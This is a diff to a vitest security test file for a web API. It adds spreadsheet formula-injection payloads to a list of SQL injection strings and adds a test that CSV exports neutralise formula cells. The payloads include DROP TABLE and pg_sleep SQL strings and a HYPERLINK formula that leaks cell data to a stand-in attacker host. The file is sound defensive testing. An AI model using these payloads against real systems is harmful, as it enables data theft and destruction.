@@ -1,5 +1,12 @@
 import { RECORD_DATASETS } from '@credpulse/contracts';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parse } from 'csv-parse/sync';
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { refreshRollups } from '../../apps/api/src/modules/analytics/rollups/rollups.service.js';
+import { FORMULA_PAYLOADS } from '../fuzz/generators.js';
 import { startTestApp, type TestApp } from './support/test-app.js';
 import { truncateFacts } from './support/test-db.js';
 
@@ -17,7 +24,10 @@ const PAYLOADS = [
   "06\u0000'; DROP TABLE job_posting; --", // NUL byte
   "\\'; SELECT pg_sleep(5); --",
   "2025-01' AND (SELECT count(*) FROM app_user) > 0 --",
-];
+  // spreadsheet formulas (issue 20) as filter values: refused like any bad value
+  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+  '@SUM(1)',
+]; 
 const RECORD_PARAMS = ['from', 'to', 'region', 'naics', 'soc', 'cip', 'skill', 'credential', 'provider', 'groupBy', 'granularity', 'limit', 'baseFrom', 'k'];
 // Each endpoint's own filters (the FilterSpec accept lists, plus k on the people metrics); a
 // parameter an endpoint does not take is refused before anything else, so one stands in for them.
@@ -148,4 +158,68 @@ describe('SQL injection in free-text search', () => {
     }
     expect(await tableCounts()).toEqual(counts);
   });
+});
+
+// Issue 20: values from uploads that a spreadsheet would run as formulas. Stored as they came (the
+// database keeps what the feed said), they come back from every CSV the server writes as text.
+describe('formula payloads stored from feeds come back neutralised in every CSV export', () => {
+  const binary = (res: NodeJS.ReadableStream, cb: (err: Error | null, body: Buffer) => void) => {
+    const chunks: Buffer[] = [];
+    res.on('data', (c: Buffer) => chunks.push(c));
+    res.on('end', () => cb(null, Buffer.concat(chunks)));
+  };
+  /** Cells a spreadsheet would evaluate (numbers aside: a negative number is a number). */
+  const live = (rows: Record<string, string>[]) => rows.flatMap((r) => Object.values(r)).filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
+
+  it('record exports (each dataset, plain and zipped) and metric exports have no live formula', async () => {
+    const [county] = await t.ds.query(`SELECT fips FROM county WHERE state_fips = '06' ORDER BY fips LIMIT 1`);
+    const [prov] = await t.ds.query(`INSERT INTO provider(source_key, name) VALUES ('inj:prov', $1) RETURNING id`, [FORMULA_PAYLOADS[0]]);
+    const [cred] = await t.ds.query(`INSERT INTO credential(source_key, name, type, provider_id) VALUES ('inj:cred', $1, 'badge', $2) RETURNING id`, [FORMULA_PAYLOADS[3], prov.id]);
+    for (const [i, p] of FORMULA_PAYLOADS.entries()) {
+      const [post] = await t.ds.query(
+        `INSERT INTO job_posting(source_key, employer, title, naics_code, posted_date, state_fips, county_fips) VALUES ($1, $2, $3, '5415', DATE '2025-03-01', '06', $4) RETURNING id`,
+        [`inj-f${i}`, p, `${p} title`, county.fips],
+      );
+      await t.ds.query(`INSERT INTO posting_credential(posting_id, credential_id, level) VALUES ($1, $2, 1)`, [post.id, cred.id]);
+      await t.ds.query(
+        `INSERT INTO credential_award(source_key, learner_key, credential_id, award_date, county_fips, state_fips, sex, race_ethnicity, age_band)
+         SELECT 'inj-a${i}-' || g, $5 || g, $1, DATE '2025-03-01', $2, '06', $3, $4, $3 FROM generate_series(1, 12) g`,
+        [cred.id, county.fips, p, `${p} race`, `L${i}-${p}`],
+      );
+    }
+    await refreshRollups(t.ds);
+    const dir = mkdtempSync(join(tmpdir(), 'credpulse-inj-csv-'));
+    try {
+      const checked: string[] = [];
+      for (const d of RECORD_DATASETS) {
+        for (const bundle of [undefined, 'zip']) {
+          const res = await t.http().get(`/api/exports/${d}`).query({ format: 'csv', ...(bundle ? { bundle } : {}) }).set('X-API-Key', researcher).buffer(true).parse(binary);
+          expect(res.status, d).toBe(200);
+          let csv = res.body as Buffer;
+          if (bundle) {
+            const z = join(dir, `${d}.zip`);
+            writeFileSync(z, csv);
+            const name = execFileSync('unzip', ['-Z1', z]).toString().split('\n').find((n) => n.endsWith('.csv')) as string;
+            csv = execFileSync('unzip', ['-p', z, name]);
+          }
+          const rows = parse(csv, { columns: true }) as Record<string, string>[];
+          expect(live(rows), `${d}${bundle ? ' (zip)' : ''}`).toEqual([]);
+          checked.push(`${d}:${rows.length}`);
+        }
+      }
+      // the payloads did come back (quoted) in the postings and awards files
+      const postings = parse((await t.http().get('/api/exports/postings').query({ format: 'csv' }).set('X-API-Key', researcher).buffer(true).parse(binary)).body as Buffer, { columns: true }) as Record<string, string>[];
+      for (const p of FORMULA_PAYLOADS) expect(postings.map((r) => r.employer)).toContain(`'${p}`);
+      // the metric views whose rows carry uploaded labels (demographic groups, credential and provider names)
+      for (const m of ['equity', 'outcomes', 'recognition', 'saturation']) {
+        const q = m === 'equity' ? { dimension: 'sex' } : {};
+        const res = await t.http().get(`/api/exports/metrics/${m}`).query({ format: 'csv', from: '2025-01', to: '2025-12', ...q }).set('X-API-Key', viewer).buffer(true).parse(binary);
+        expect(res.status, `${m}: ${String(res.body).slice(0, 200)}`).toBe(200);
+        expect(live(parse(res.body as Buffer, { columns: true }) as Record<string, string>[]), m).toEqual([]);
+      }
+      expect(checked.length).toBe(RECORD_DATASETS.length * 2);
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  }, 120_000);
 });
